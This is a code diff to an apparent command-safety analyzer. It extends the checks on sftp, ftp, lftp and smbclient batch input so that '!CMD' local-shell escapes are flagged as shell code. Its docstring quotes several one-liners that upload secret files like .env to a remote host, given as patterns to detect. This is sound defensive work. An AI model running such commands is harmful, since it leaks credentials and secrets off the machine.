@@ -3,7 +3,8 @@
 ``sftp host <<< 'put .env'``, ``printf 'put .env\\n' | ftp -n host``, ``lftp -e 'put .env;
 bye' host``, ``smbclient //h/s -c 'put .env'``: the client reads commands (from stdin, a
 batch file or an option) and ``put``/``mput``/``reput``/``append``/``send`` upload local
-files, so a secret file named there leaves the machine as surely as ``scp .env host:``.
+files, so a secret file named there leaves the machine as surely as ``scp .env host:``;
+a ``!CMD`` line runs CMD in the local shell, so CMD is classified as shell code.
 A local file is secret when it is secret wherever it is (``.env``, a private key by name,
 :func:`._secrets.secret_file`) or under a sensitive home path (``~/.ssh/id_rsa``,
 :func:`._checks.check_args`). ``get`` downloads and ``ls``/``cd`` are ordinary.
@@ -58,8 +59,23 @@ def xfer_client(run: Run, inv: Invocation, stdin: Flow | None) -> None:
             stdin.text is not None:
         batches.append(Field(stdin.text, stdin.span, stdin.taint))
     for batch in batches:
+        if batch.text != DYN:
+            _local_commands(run, inv, batch)
+    for batch in batches:
         if batch.text != DYN and _upload_secret(run, inv, batch):
             return
+
+
+def _local_commands(run: Run, inv: Invocation, batch: Field) -> None:
+    """``!CMD`` lines of a batch run CMD in the local shell (every client here has the
+    escape): classify CMD as shell code."""
+    for count, line in enumerate(batch.text.splitlines()):
+        if count >= _MAX_COMMANDS:
+            break
+        line = line.strip()
+        if line.startswith("!") and line[1:].strip():
+            run.run_code(Field(line[1:], batch.span, batch.taint), f"{inv.name} !",
+                         inv.word.span, None, positional=[])
 
 
 def _upload_secret(run: Run, inv: Invocation, batch: Field) -> bool:
